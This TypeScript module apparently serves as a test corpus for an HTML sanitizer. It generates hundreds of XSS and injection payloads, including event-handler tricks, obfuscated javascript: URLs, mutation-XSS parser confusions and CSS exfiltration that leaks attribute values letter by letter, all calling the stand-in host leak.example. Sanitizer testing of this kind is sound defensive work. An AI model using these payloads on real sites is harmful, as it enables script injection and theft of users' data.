/**
 * Markup that attacks whoever puts it into a page of their own: run scripts, call home, break out of where it stands.
 * `fire` is what a script would do; addresses lead to `leak.example`, so that any request is seen.
 */

/** What is called home at. */
export const leak = 'https://leak.example';
const fire = 'globalThis.fired=(globalThis.fired||0)+1';

const tags =
	'img svg body video audio details input iframe object embed marquee div form button select textarea style math a p'.split(
		' ',
	);
const events =
	'error load click focus toggle begin animationstart transitionend pointerover scroll beforetoggle message'.split(' ');

/** Every handler on every element, the ways of writing taking turns. */
const handlers = tags.flatMap((tag, i) =>
	events.map((event, j) => {
		const ways = [
			`on${event}="${fire}"`,
			`ON${event}=${fire}`,
			`on${event}&#61;"${fire}" on${event}='${fire}'`,
			`/on${event}=${fire}//`,
		];
		return `<${tag} src=${leak}/h${i}-${j} autofocus open tabindex=1 ${ways[(i + j) % ways.length]}>A lamp</${tag}>`;
	}),
);

const schemes = [
	`javascript:${fire}`,
	`JaVaScRiPt:${fire}`,
	`java&Tab;script:${fire}`,
	`java&NewLine;script:${fire}`,
	`&#1;javascript:${fire}`,
	`&nbsp;javascript:${fire}`,
	`javascript&colon;${fire}`,
	`vbscript:${fire}`,
	`data:text/html,<script>${fire}</script>`,
	`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${fire}'/>`,
	`blob:${leak}/0`,
	`view-source:javascript:${fire}`,
];
const carriers = [
	(to: string) => `<a href="${to}">A lamp</a>`,
	(to: string) => `<a xlink:href="${to}" ping="${leak}/ping">A lamp</a>`,
	(to: string) => `<svg><a xlink:href="${to}"><text>A lamp</text></a></svg>`,
	(to: string) => `<math href="${to}"><mtext>A lamp</mtext></math>`,
	(to: string) => `<iframe src="${to}"></iframe>`,
	(to: string) => `<iframe srcdoc="<script>${fire}</script>" src="${to}"></iframe>`,
	(to: string) => `<object data="${to}"></object>`,
	(to: string) => `<embed src="${to}">`,
	(to: string) =>
		`<form action="${to}"><button formaction="${to}">A lamp</button><input type="image" src="${leak}/i"></form>`,
	(to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`,
	(to: string) => `<base href="${to}">`,
	(to: string) => `<img src="${to}" srcset="${to} 1x" longdesc="${to}">`,
];
const addresses = carriers.flatMap(carry => schemes.map(carry));

/** Markup that changes its meaning when it is written out and read again. */
const mutants = [
	`<svg><p><style><g title="</style><img src=x onerror=${fire}>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${fire}&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${fire}>`,
	`<noscript><p title="</noscript><img src=x onerror=${fire}>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=${fire}>">`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=${fire}></style></annotation-xml></math>`,
	`<svg><foreignObject><style><img src=x onerror=${fire}></style></foreignObject></svg>`,
	`<svg><desc><title><script>${fire}</script></title></desc></svg>`,
	`<template><img src=x onerror=${fire}></template>`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${fire}>">`,
	`<! foo="--><img src=x onerror=${fire}>"><p>A lamp</p>`,
	`<!--><img src=x onerror=${fire}>-->`,
	`<!--!><img src=x onerror=${fire}>`,
	`<?xml version="1.0"?><img src=x onerror=${fire}>`,
	`<![CDATA[><img src=x onerror=${fire}>]]>`,
	`<svg><![CDATA[><img src=x onerror=${fire}>]]></svg>`,
	`<textarea></textarea><img src=x onerror=${fire}>`,
	`<title></title><script>${fire}</script>`,
	`<xmp><p title="</xmp><svg/onload=${fire}>"></xmp>`,
	`<noembed></noembed><script>${fire}</script>`,
	`<plaintext></plaintext><img src=x onerror=${fire}>`,
	`<table><td><form><input name=nodeName></form><script>${fire}</script></table>`,
	`<a><table><a></table><style><!--</style><img src=x onerror=${fire}>--></a>`,
	`<div><template shadowrootmode="open"><img src=x onerror=${fire}></template></div>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${fire}'/>#x"></use></svg>`,
	`<svg><animate attributeName="href" values="javascript:${fire}"/><set attributeName="onload" to="${fire}"/></svg>`,
];

/** Style that calls home, letter by letter if need be. */
const styles = [
	`<style>@import url(${leak}/import);</style>`,
	`<style>body{background:url(${leak}/back)}</style>`,
	`<style>input[value^="a"]{background:url(${leak}/a)}</style>`,
	`<style>@font-face{font-family:x;src:url(${leak}/font);unicode-range:U+41}*{font-family:x}</style>`,
	`<style>:root::before{content:url(${leak}/before)}</style>`,
	`<style>p:has(a:visited){list-style-image:url(${leak}/has)}</style>`,
	`<link rel=stylesheet href="${leak}/sheet.css">`,
	`<link rel="preload prefetch dns-prefetch preconnect modulepreload icon" as=script href="${leak}/pre">`,
	`<p style="background-image:url(${leak}/inline)">A lamp</p>`,
	`<p style="behavior:url(${leak}/htc);-moz-binding:url(${leak}/xbl)">A lamp</p>`,
	`<p style="border-image:url(${leak}/border);mask:url(${leak}/mask);cursor:url(${leak}/cursor),auto;filter:url(${leak}/filter)">A lamp</p>`,
	`<p style="width:expression(${fire})">A lamp</p>`,
	`<p class="x" id="y" style="position:fixed;inset:0;z-index:99999">A lamp</p>`,
];

/** Elements that ask for something by themselves, each attribute with an address of its own. */
const calls = [
	...'img script iframe embed audio video source track frame input'
		.split(' ')
		.map(tag => `<${tag} src="${leak}/${tag}">`),
	...'a link area base image use'.split(' ').map(tag => `<${tag} href="${leak}/${tag}" xlink:href="${leak}/x${tag}">`),
	...'table td th body'.split(' ').map(tag => `<${tag} background="${leak}/${tag}">A lamp</${tag}>`),
	...'blockquote q del ins'.split(' ').map(tag => `<${tag} cite="${leak}/${tag}">A lamp</${tag}>`),
	`<picture><source srcset="${leak}/picture"><img srcset="${leak}/set 1x, ${leak}/set2 2x" data-src="${leak}/lazy" lowsrc="${leak}/low" dynsrc="${leak}/dyn"></picture>`,
	`<video poster="${leak}/poster"><source src="${leak}/video"></video>`,
	`<object data="${leak}/data" codebase="${leak}/codebase" classid="${leak}/classid"><param name=movie value="${leak}/movie"></object>`,
	`<applet code="${leak}/code" archive="${leak}/archive"></applet>`,
	`<html manifest="${leak}/manifest"><head profile="${leak}/profile">`,
	`<meta http-equiv="refresh" content="0; url=${leak}/refresh">`,
	`<meta http-equiv="Content-Security-Policy" content="report-uri ${leak}/csp">`,
	`<meta http-equiv="Set-Cookie" content="a=b">`,
	`<svg><image href="${leak}/svg"/><feImage href="${leak}/fe"/><script href="${leak}/script"/></svg>`,
	`<form action="${leak}/form"><input autofocus></form>`,
	`<img src="${leak}/pixel?reader=1" width="1" height="1">`,
	`<portal src="${leak}/portal"></portal><fencedframe src="${leak}/fenced"></fencedframe>`,
	`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${leak}/rules"]}]}</script>`,
	`<script type="importmap">{"imports":{"x":"${leak}/map"}}</script><script type="module">import "x"</script>`,
	`<dialog open><p>A lamp</p></dialog><div popover>A lamp</div>`,
];

/** By kind, so that a failure names it. */
export const payloads: Record<string, readonly string[]> = {handlers, addresses, mutants, styles, calls};

export const allPayloads: readonly string[] = Object.values(payloads).flat();
